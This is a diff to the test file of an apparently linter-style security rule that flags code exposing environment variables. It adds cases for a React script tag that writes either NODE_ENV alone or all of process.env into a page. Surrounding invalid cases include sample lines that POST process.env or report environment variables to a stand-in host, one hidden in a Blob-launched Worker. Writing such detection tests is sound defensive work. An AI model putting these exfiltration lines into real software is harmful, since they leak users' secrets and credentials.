@@ -112,6 +112,7 @@ await ruleTester(rule, {
     { code: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ toJSON(github.event) }}"\n', filename: '.github/workflows/a.yml' },
     { code: '{ "name": "a", "scripts": { "start": "env NODE_ENV=test node x.js" } }', filename: 'package.json' },
     { code: 'const report = process.report?.getReport(); export const isMusl = !report.header.glibcVersionRuntime;' },
+    { code: 'export default function Root({ env }) { return <script dangerouslySetInnerHTML={{ __html: `window.ENV=${JSON.stringify({ mode: process.env.NODE_ENV })}` }} />; }', filename: 'file.jsx' },
   ],
   invalid: [
     // programs in data: URLs, descriptors, traps of a proxy
@@ -250,5 +251,6 @@ await ruleTester(rule, {
     { code: 'console.log(process.report.getReport());', errors: [{ messageId: 'dump' }] },
     { code: `const r = process.report.getReport(); fetch('https://x.example.org', { method: 'POST', body: JSON.stringify(r.environmentVariables) });`, errors: [{ messageId: 'dump' }] },
     { code: "const blob = new Blob([`fetch('https://x.example.org', { method: 'POST', body: JSON.stringify(process.env) })`]); new Worker(URL.createObjectURL(blob));", errors: [{ messageId: 'dump' }] },
+    { code: "export default function Root() { return <script dangerouslySetInnerHTML={{ __html: `window.ENV=${JSON.stringify(process.env)}` }} />; }", filename: 'file.jsx', errors: [{ messageId: 'dump' }] },
   ],
 });
